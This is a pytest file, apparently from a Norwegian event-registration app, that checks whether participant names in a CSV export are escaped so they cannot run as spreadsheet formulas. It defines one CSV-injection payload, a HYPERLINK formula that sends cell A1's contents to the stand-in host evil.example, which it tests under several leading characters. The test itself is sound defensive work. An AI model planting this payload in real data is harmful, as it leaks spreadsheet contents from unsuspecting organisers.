"""The participant list is opened by organisers in a spreadsheet: a name a participant typed
must not run as a formula there (issue #16)."""

import csv
import io

import pytest

from conftest import make_user
from lokalmaal.networks.actions import do_register
from lokalmaal.networks.tests.conftest import client_for, make_event

ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"klikk")'


# (A leading tab or carriage return never reaches the list: the full name is stripped.)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_participants_name_never_becomes_a_formula(coordinator, bergen, start: str):
    event = make_event(coordinator, organisation=bergen)
    person = make_user("angripar@example.no")
    person.first_name, person.last_name = start + ATTACK, "Nordmann"
    person.save()
    do_register(event, person)
    response = client_for(coordinator).get(f"/arrangement/{event.pk}/deltakarar.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + start + ATTACK + " Nordmann"
    assert rows[1][1] == "angripar@example.no"
